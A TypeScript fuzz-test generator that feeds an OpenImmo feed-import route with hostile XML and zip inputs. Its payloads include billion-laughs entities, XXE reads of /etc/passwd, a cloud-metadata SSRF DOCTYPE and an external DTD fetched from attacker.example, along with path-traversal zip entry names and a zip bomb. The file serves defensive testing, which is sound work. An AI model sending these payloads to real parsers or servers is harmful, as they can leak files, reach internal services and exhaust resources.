import fc from 'fast-check';
import { hostileText } from './hostileValues';
import { buildZip, zeros } from './zipBytes';

/** A feed the import takes: what gets a file route's case past the checks to the handler. */
export const VALID_FEED =
  '<?xml version="1.0" encoding="UTF-8"?><openimmo><anbieter><immobilie/></anbieter></openimmo>';

const DOCTYPES = [
  '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>',
  '<!DOCTYPE root [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
  '<!doctype openimmo SYSTEM "http://169.254.169.254/latest/meta-data/">',
  '<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>',
  '<!ENTITY x "y">',
];

/** Built once: 4 MB of zeros deflated to a few KB (a zip bomb by ratio, whatever the limits). */
let bomb: Buffer | undefined;
const zipBomb = () =>
  (bomb ??= buildZip([
    { name: 'openimmo.xml', data: VALID_FEED },
    { name: 'b.jpg', data: zeros(4) },
  ]));

const xmlWithDoctype = fc
  .tuple(fc.constantFrom(...DOCTYPES), fc.constantFrom('', '\n', '<!-- export -->\n', '  '))
  .map(([doctype, before]) => Buffer.from(`<?xml version="1.0"?>${before}${doctype}<root>&lol2;&xxe;</root>`));

/** Entry names an archiver would never write: traversal, absolute, backslashes, control characters, anything. */
const hostileEntryName = fc.oneof(
  fc.constantFrom(
    '../openimmo.xml',
    'a/../../x.jpg',
    '/etc/passwd',
    'C:/x.xml',
    'a\\..\\b.jpg',
    'a\u0000.xml',
    '',
    './x.xml',
  ),
  hostileText.map((text) => text.slice(0, 300)),
);

const hostileZip = fc
  .array(
    fc.record({
      name: hostileEntryName,
      data: fc.oneof(
        fc.constant(VALID_FEED),
        fc.uint8Array({ maxLength: 200 }).map((bytes) => Buffer.from(bytes)),
      ),
      store: fc.boolean(),
    }),
    { minLength: 1, maxLength: 4 },
  )
  .map((entries) => buildZip(entries));

/**
 * A file route's body (application/shared/svcRoute `body: 'file'`): a valid feed, XML with a
 * DOCTYPE or entities, bytes in no encoding, random bytes, a broken zip, a zip with hostile names,
 * a zip bomb.
 */
export function hostileFile(): fc.Arbitrary<Buffer> {
  return fc.oneof(
    { weight: 2, arbitrary: fc.constant(Buffer.from(VALID_FEED)) },
    { weight: 2, arbitrary: xmlWithDoctype },
    { weight: 2, arbitrary: hostileZip },
    fc.constant(null).map(() => zipBomb()),
    fc.constant(buildZip([{ name: 'openimmo.xml', data: VALID_FEED }])),
    fc.uint8Array({ maxLength: 2000 }).map((bytes) => Buffer.from(bytes)),
    fc
      .uint8Array({ maxLength: 500 })
      .map((bytes) => Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.from(bytes)])),
    fc
      .uint8Array({ minLength: 1, maxLength: 50 })
      .map((bytes) => Buffer.concat([Buffer.from('<root>'), Buffer.from(bytes), Buffer.from('</root>')])),
    fc.constant(Buffer.from('\uFEFF<root/>', 'utf16le')),
    fc.constant(Buffer.alloc(0)),
  );
}

/** Headers that change how a file body is read. */
export const hostileFileHeaders = fc.oneof(
  { weight: 3, arbitrary: fc.constant<Record<string, string>>({ 'content-type': 'application/xml' }) },
  { weight: 3, arbitrary: fc.constant<Record<string, string>>({ 'content-type': 'application/zip' }) },
  fc.constant<Record<string, string>>({ 'content-type': 'text/xml; charset=utf-8' }),
  fc.constant<Record<string, string>>({ 'content-type': 'application/octet-stream' }),
  fc.constant<Record<string, string>>({ 'content-type': 'application/xml', 'content-encoding': 'gzip' }),
  fc.constant<Record<string, string>>({ 'content-type': 'application/json' }),
  fc.constant<Record<string, string>>({ 'content-type': 'multipart/form-data; boundary=x' }),
  fc.constant<Record<string, string>>({}),
);
